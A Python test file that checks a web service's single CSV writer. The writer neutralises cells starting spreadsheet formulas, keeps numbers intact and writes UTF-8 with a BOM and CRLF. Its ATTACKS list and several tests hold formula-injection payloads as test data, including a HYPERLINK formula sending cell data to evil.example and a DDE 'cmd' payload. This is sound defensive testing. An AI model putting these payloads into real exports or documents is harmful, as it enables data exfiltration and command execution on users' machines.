"""Every CSV export goes through the one writer (``platform.csv_export``): text that would start a
spreadsheet formula (=, +, -, @, a tab or a carriage return first) comes out neutralised, numbers
stay numbers, the file is UTF-8 with a BOM and CRLF.  A scan of the code base keeps it one."""
from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import text

import teichaku
from teichaku.platform.csv_export import FORMULA_START, cell, csv_bytes
from teichaku.platform.i18n import today_jst

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "＝1+1"]
PACKAGE = Path(teichaku.__file__).parent
WRITER = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b")


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    body = data[3:].decode("utf-8")
    assert "\n" not in body.replace("\r\n", "")  # CRLF only (a CR inside a quoted cell is escaped text)
    return list(csv.reader(io.StringIO(body, newline="")))


def _neutralised(value: str) -> bool:
    return value.startswith("'") and not value.startswith(FORMULA_START)


# --- the one writer ----------------------------------------------------------------------------

def test_no_module_but_the_platform_csv_writer_writes_csv_so_no_export_can_skip_the_guard():
    offenders = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
                 if path.name != "csv_export.py" and WRITER.search(path.read_text("utf-8"))]
    assert offenders == [], f"write CSV through teichaku.platform.csv_export, not csv.writer: {offenders}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_cell_starting_a_formula_is_written_as_text(attack):
    (header, row) = _rows(csv_bytes(["name"], [[attack]]))
    assert header == ["name"] and row[0] == "'" + attack


def test_numbers_stay_numbers_even_negative_and_other_values_keep_their_form():
    (row,) = _rows(csv_bytes(None, [[-3, 2.5, Decimal("-1.50"), 0, None, True, False, date(2026, 4, 1), "普通の文字"]]))
    assert row == ["-3", "2.5", "-1.50", "0", "", "true", "false", "2026-04-01", "普通の文字"]
    assert cell(-3) == -3 and cell("-3") == "'-3"  # only strings are guarded


# --- each export -------------------------------------------------------------------------------

def test_a_formula_in_an_aggregates_text_cell_is_neutralised_while_counts_and_suppression_keep_the_contract():
    from teichaku.crosstenant.aggregates.exports import table_csv

    columns = ["municipality", "municipality_name", "count", "suppressed"]
    data = table_csv(columns, [{"municipality": "131016", "municipality_name": ATTACKS[0], "count": -1, "suppressed": False},
                               {"municipality": None, "municipality_name": None, "count": None, "suppressed": True}])
    header, first, total = _rows(data)
    assert header == columns
    assert _neutralised(first[1]) and first[1] == "'" + ATTACKS[0]
    assert first[2:] == ["-1", "false"]  # a number stays a number (a negative delta is not text)
    assert total == ["", "", "", "true"]  # suppressed and totalled cells are empty


def test_a_formula_in_an_activity_summary_label_is_neutralised_in_its_csv(api, monkeypatch):
    from teichaku.tenants.activities import services as activities

    kind = next(iter(activities.TYPE_LABELS))
    monkeypatch.setitem(activities.TYPE_LABELS, kind, "=HYPERLINK(\"http://evil.example\")")
    response = api("a_staff").get("/api/v1/activities/summary/export?fiscal_year=2025&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _rows(response.data)
    labels = [r[1] for r in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example\")" in labels
    assert all(not label.startswith(FORMULA_START) for label in labels)


@pytest.mark.parametrize("attack", ["\t=HYPERLINK(\"http://evil.example\")", "\r=1+1", "＝1+1"])
def test_a_center_name_starting_a_formula_is_neutralised_in_the_transfer_report_and_provision_records(
        app, world, api, owner_engine, attack):
    case = world.cases["a"]
    sent = api("a_staff").post("/api/v1/transfers", json={
        "case_id": str(case["id"]), "to_center": "osaka", "consent": {"obtained_on": "2026-01-05", "method": "written"},
        "message": "CSVのテスト"})
    assert sent.status_code == 201, sent.get_json()
    with owner_engine.begin() as conn:  # the operator may rename a center (platform admin pages)
        conn.execute(text("update centers set name = :n where code = 'osaka'"), {"n": attack})
    provisions = api("a_admin").get("/api/v1/transfers/provisions?format=csv")
    assert provisions.status_code == 200
    header, *rows = _rows(provisions.data)
    to_osaka = [r for r in rows if r[header.index("recipient_center")] == "osaka"]
    assert to_osaka and all(r[header.index("recipient_center_name")] == "'" + attack for r in to_osaka)
    today = today_jst()
    year = today.year if today.month >= 4 else today.year - 1
    report = api("association").get(f"/api/v1/transfers/report?fiscal_year={year}&format=csv")
    assert report.status_code == 200
    header, *rows = _rows(report.data)
    names = [r[header.index("center_name")] for r in rows]
    assert "'" + attack in names and not any(n.startswith(FORMULA_START) for n in names)
